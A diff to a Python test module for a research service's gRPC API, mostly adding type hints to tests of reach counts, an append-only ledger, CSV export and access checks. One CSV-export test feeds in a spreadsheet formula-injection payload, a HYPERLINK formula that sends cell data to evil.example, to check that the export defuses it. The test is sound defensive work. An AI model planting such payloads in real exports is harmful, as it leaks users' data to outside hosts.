@@ -5,11 +5,14 @@ from __future__ import annotations
 import csv
 import io
 from datetime import UTC, timedelta
+from pathlib import Path
+from typing import TYPE_CHECKING
 
 import grpc
 import pytest
+from branch.common.v1 import event_pb2
 from branch.onsite.v1 import events_pb2 as onsite_events
-from branch.research.v1 import distribution_pb2
+from branch.research.v1 import distribution_pb2, note_pb2
 from branch.research.v1 import research_service_pb2 as api
 from branch.research.v1.research_service_pb2_grpc import ResearchServiceStub
 from branch.vip.v1 import events_pb2 as vip_events
@@ -17,6 +20,7 @@ from sqlalchemy import text
 
 from services.common.clock import FakeClock
 from services.common.protos import ts
+from services.common.server import ServiceRunner
 from services.research.server import SPEC
 from tests.harness import bad_fields, channel, eventually, make_settings, running
 from tests.research.factories import (
@@ -32,10 +36,14 @@ from tests.research.factories import (
     published,
 )
 
+if TYPE_CHECKING:
+    from branch.research.v1.research_service_pb2_grpc import ResearchServiceAsyncStub
+
 K = distribution_pb2
 
 
-def relay_events(note, minutes: list[int]):  # type: ignore[no-untyped-def]
+def relay_events(note: note_pb2.Note, minutes: list[int]
+                 ) -> tuple[vip_events.RelaysPlanned, list[vip_events.RelayDelivered]]:
     """What the VIP service reports: a plan, deliveries `minutes` after publication."""
     start = note.publish_time.ToDatetime(tzinfo=UTC)
     planned = vip_events.RelaysPlanned(note_id=note.id, revision=note.revision, targeted=3,
@@ -51,7 +59,7 @@ def relay_events(note, minutes: list[int]):  # type: ignore[no-untyped-def]
     return planned, delivered
 
 
-async def feed(nats_url, note, minutes):  # type: ignore[no-untyped-def]
+async def feed(nats_url: str, note: note_pb2.Note, minutes: list[int]) -> None:
     planned, delivered = relay_events(note, minutes)
     await publish_event(nats_url, "branch.vip.relay.planned", planned)
     first = ""
@@ -75,7 +83,7 @@ async def feed(nats_url, note, minutes):  # type: ignore[no-untyped-def]
                             deliver_time=ts(start + timedelta(minutes=90))))
 
 
-async def test_reach_is_zero_until_events_then_counts_them(stub, nats_url) -> None:
+async def test_reach_is_zero_until_events_then_counts_them(stub: ResearchServiceAsyncStub, nats_url: str) -> None:
     note = await published(stub)
     other = await published(stub, ANALYST2)
     zero = await stub.GetNoteReach(api.GetNoteReachRequest(note_id=note.id), metadata=ANALYST)
@@ -84,7 +92,7 @@ async def test_reach_is_zero_until_events_then_counts_them(stub, nats_url) -> No
     assert zero.publish_time == note.publish_time
     await feed(nats_url, note, [10, 30, 20])
 
-    async def reached():  # type: ignore[no-untyped-def]
+    async def reached() -> distribution_pb2.NoteReach | None:
         r = await stub.GetNoteReach(api.GetNoteReachRequest(note_id=note.id), metadata=ANALYST)
         return r if r.relayed == 4 and r.acknowledged == 1 and r.targeted == 4 else None
 
@@ -94,7 +102,7 @@ async def test_reach_is_zero_until_events_then_counts_them(stub, nats_url) -> No
     await publish_event(nats_url, "branch.vip.relay.cancelled", vip_events.RelaysCancelled(
         note_id=note.id, revision=note.revision, cancelled=2, reason="note withdrawn"))
 
-    async def cancelled():  # type: ignore[no-untyped-def]
+    async def cancelled() -> bool:
         r = await stub.GetNoteReach(api.GetNoteReachRequest(note_id=note.id), metadata=SUPER)
         return r.cancelled == 2
 
@@ -120,7 +128,7 @@ async def test_reach_is_zero_until_events_then_counts_them(stub, nats_url) -> No
     assert err.value.code() == grpc.StatusCode.PERMISSION_DENIED
 
 
-async def test_ledger_records_and_csv_export(tmp_path, nats_url, database_url) -> None:
+async def test_ledger_records_and_csv_export(tmp_path: Path, nats_url: str, database_url: str) -> None:
     clock = FakeClock()
     settings = make_settings(tmp_path, nats_url, database_url)
     async with running(SPEC, settings, clock=clock) as runner, channel(runner) as ch:
@@ -128,10 +136,10 @@ async def test_ledger_records_and_csv_export(tmp_path, nats_url, database_url) -
         note = await published(stub)
         await feed(nats_url, note, [5])
 
-        async def ledger():  # type: ignore[no-untyped-def]
+        async def ledger() -> list[distribution_pb2.DistributionRecord] | None:
             out = await stub.ListDistributionRecords(
                 api.ListDistributionRecordsRequest(note_id=note.id), metadata=COMPLIANCE)
-            return out.records if len(out.records) >= 7 else None
+            return list(out.records) if len(out.records) >= 7 else None
 
         records = await eventually(ledger, timeout=20)
         kinds = [r.kind for r in records]
@@ -188,13 +196,14 @@ async def test_ledger_records_and_csv_export(tmp_path, nats_url, database_url) -
         for statement in statements:
             with pytest.raises(Exception, match="append-only"):
                 async with runner.db.transaction() as session:
+                    # sqlmodel's exec() overloads leave out textual SQL (it runs it)
                     await session.exec(text(statement))  # type: ignore[call-overload]
         left = await stub.ListDistributionRecords(
             api.ListDistributionRecordsRequest(note_id=note.id), metadata=COMPLIANCE)
         assert len(left.records) == len(records)
 
 
-async def test_ledger_access_and_bad_period(stub) -> None:
+async def test_ledger_access_and_bad_period(stub: ResearchServiceAsyncStub) -> None:
     for meta in (ANALYST, BROKER):
         with pytest.raises(grpc.aio.AioRpcError) as err:
             await stub.ListDistributionRecords(api.ListDistributionRecordsRequest(),
@@ -218,20 +227,20 @@ async def test_ledger_access_and_bad_period(stub) -> None:
     assert err.value.code() == grpc.StatusCode.PERMISSION_DENIED
 
 
-async def test_export_needs_a_token(stub) -> None:
+async def test_export_needs_a_token(stub: ResearchServiceAsyncStub) -> None:
     with pytest.raises(grpc.aio.AioRpcError) as err:
         async for _ in stub.ExportDistributionLedger(api.ExportDistributionLedgerRequest()):
             pass
     assert err.value.code() == grpc.StatusCode.UNAUTHENTICATED
 
 
-async def test_undecodable_relay_event_is_parked(research, nats_url) -> None:
+async def test_undecodable_relay_event_is_parked(research: ServiceRunner, nats_url: str) -> None:
     eid = await publish_event(nats_url, "branch.vip.relay.delivered", Raw(b"\xff\xff\xff"))
     assert await eventually(lambda: is_parked(nats_url, "branch.parked.research.reach", eid),
                             timeout=15)
 
 
-async def test_csv_export_quotes_and_defuses_formulas(stub, clock) -> None:
+async def test_csv_export_quotes_and_defuses_formulas(stub: ResearchServiceAsyncStub, clock: FakeClock) -> None:
     """Commas, quotes and line breaks stay inside their cell; text a spreadsheet would run as
     a formula (=, +, -, @) is kept as text with a leading apostrophe."""
     title = '=HYPERLINK("http://evil.example/?q="&A1,"Click"), "quoted", and commas'
@@ -260,7 +269,8 @@ async def test_csv_export_quotes_and_defuses_formulas(stub, clock) -> None:
     assert not any(cell.startswith(("=", "+", "-", "@")) for r in body for cell in r)
 
 
-async def parked_envelope(nats_url: str, parked_subject: str, event_id: str):  # type: ignore[no-untyped-def]
+async def parked_envelope(nats_url: str, parked_subject: str, event_id: str
+                          ) -> event_pb2.EventEnvelope | None:
     import nats
     from branch.common.v1 import event_pb2
     from nats.js.api import ConsumerConfig, DeliverPolicy
@@ -270,7 +280,7 @@ async def parked_envelope(nats_url: str, parked_subject: str, event_id: str):  #
         sub = await nc.jetstream().subscribe(
             parked_subject, stream="BRANCH", ordered_consumer=True,
             config=ConsumerConfig(deliver_policy=DeliverPolicy.ALL))
-        found = None
+        found: event_pb2.EventEnvelope | None = None
         while True:
             try:
                 msg = await sub.next_msg(timeout=0.3)
@@ -286,7 +296,7 @@ async def parked_envelope(nats_url: str, parked_subject: str, event_id: str):  #
         await nc.close()
 
 
-async def test_events_that_can_never_apply_are_parked_at_once(research, nats_url) -> None:
+async def test_events_that_can_never_apply_are_parked_at_once(research: ServiceRunner, nats_url: str) -> None:
     """An impossible timestamp or a NUL character in an event would fail on every delivery:
     it is parked on the first one, the reason naming the field and not its content."""
     from google.protobuf.timestamp_pb2 import Timestamp
@@ -312,7 +322,7 @@ async def test_events_that_can_never_apply_are_parked_at_once(research, nats_url
         assert field in env.parked_reason and "Secret" not in env.parked_reason
 
 
-async def test_ledger_outlives_housekeeping_and_exports_five_years(research, stub, clock) -> None:
+async def test_ledger_outlives_housekeeping_and_exports_five_years(research: ServiceRunner, stub: ResearchServiceAsyncStub, clock: FakeClock) -> None:
     """Five years on, after the housekeeping pass that prunes bookkeeping rows, the ledger
     still holds the approval and publication, and one export covers the whole period."""
     from services.common.housekeeping import prune
